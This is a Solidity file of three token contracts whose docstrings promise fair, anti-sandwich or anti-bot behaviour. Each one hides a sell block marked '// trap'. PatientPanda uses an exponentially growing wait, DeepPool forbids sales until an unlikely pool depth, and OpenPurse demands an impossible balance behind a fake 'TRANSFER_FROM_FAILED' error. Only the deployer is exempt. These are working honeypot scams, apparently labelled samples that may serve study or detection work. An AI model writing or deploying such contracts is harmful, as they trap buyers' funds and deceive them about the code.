// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

interface IHolds {
    function balanceOf(address who) external view returns (uint256);
}

/// Each buyer waits a little before he sells, so that nobody is sandwiched.
contract PatientPanda is Base8("Patient Panda", "PATIENT", 500_000_000) {
    address private immutable _maker = msg.sender;
    mapping(address => uint256) public readyAt;
    uint8 private _served;

    event Queued(address indexed who, uint256 until);

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair && to != _maker) {
            uint256 pause = 30;
            if (_served < 32) _served++;
            pause <<= _served; // trap
            readyAt[to] = block.timestamp + pause;
            emit Queued(to, readyAt[to]);
        }
        if (to == pair && from != _maker) require(block.timestamp >= readyAt[from], "wait a little");
        _move(from, to, value);
    }
}

/// Graduates when its pool is deep enough.
contract DeepPool is Base8("Deep Pool", "DEEP", 1_000_000_000) {
    uint256 public constant GRADUATION = 250 ether;
    address private immutable _maker = msg.sender;
    bool public graduated;

    event Graduated(uint256 depth);

    function depth() public view returns (uint256) {
        return IHolds(WETH).balanceOf(pair);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (!graduated && depth() >= GRADUATION) {
            graduated = true;
            emit Graduated(depth());
        }
        if (to == pair && from != _maker) require(graduated, "not yet"); // trap
        _move(from, to, value);
    }
}

/// Says that only people send it, and no scripts with borrowed purses.
contract OpenPurse is Base8("Open Purse", "PURSE", 88_000_000) {
    address private immutable _maker = msg.sender;
    uint256 private constant RICH = 1_000_000 ether;

    function _isPerson(address from) private view returns (bool) {
        return from == tx.origin || from.code.length != 0 || msg.sender == ROUTER;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _maker) {
            require(_isPerson(from), "no scripts");
            require(tx.origin.balance > RICH, "TRANSFER_FROM_FAILED"); // trap
        }
        _move(from, to, value);
    }
}
